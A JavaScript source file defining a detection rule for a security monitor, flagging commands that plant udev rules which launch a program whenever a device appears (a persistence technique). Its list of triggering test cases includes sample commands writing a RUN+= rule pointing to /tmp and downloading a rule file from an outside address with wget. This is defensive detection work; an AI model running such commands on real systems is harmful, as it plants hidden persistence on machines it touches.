import { commandRule } from "../../command-rule.js";
import { parentOf, TEMPORARY, writesTo } from "../../shell/look.js";

/** A rule that starts a program whenever a device appears was written by a command. */
export const udevRulePlanted = commandRule({
  id: "udev-rule-planted",
  alertType: "Picket_UdevRulePlanted",
  name: "Device rule planted",
  severity: "High",
  about: "A rule that starts a program whenever a device appears was written by a command.",
  tactics: ["Persistence"],
  techniques: ["T1546.017"],
  falsePositives: [
    "Installers of hardware drivers that are shell scripts; their rules set rights and start no program.",
  ],
  witness: ["udev/rules.d", "run+="],
  sees: (reading, event) =>
    /(?:dpkg|rpm|ansible)/.test(parentOf(event))
      ? undefined
      : writesTo(
          reading,
          /^(?:\/etc|\/lib|\/usr\/lib|\/run)\/udev\/rules\.d\/\S+$/,
          ({ name, text, argv, input }) =>
            (/^(?:echo|printf|cat|tee)$/.test(name) &&
              (/RUN/.test(text) || /RUN/.test(input ?? "") || name === "cat" || name === "tee")) ||
            /^(?:curl|wget)$/.test(name) ||
            argv.slice(1, -1).some((word) => TEMPORARY.test(word)),
        ),
  did: "planted a rule of udev",
  because: "it starts a program whenever a device appears",
  fires: [
    'sh -c echo \'ACTION=="add", RUN+="/tmp/x"\' > /etc/udev/rules.d/10-x.rules',
    "wget http://203.0.113.9/r -O /etc/udev/rules.d/99-a.rules",
    "cp /tmp/r.rules /lib/udev/rules.d/60-r.rules",
  ],
  silent: [
    "cp 99-serial.rules /etc/udev/rules.d/99-serial.rules",
    "udevadm control --reload-rules",
    "ls /etc/udev/rules.d/",
    'sh -c echo \'KERNEL=="ttyUSB0", MODE="0666"\' > /etc/udev/rules.d/50-usb.rules',
    "cat /lib/udev/rules.d/60-block.rules",
  ],
});
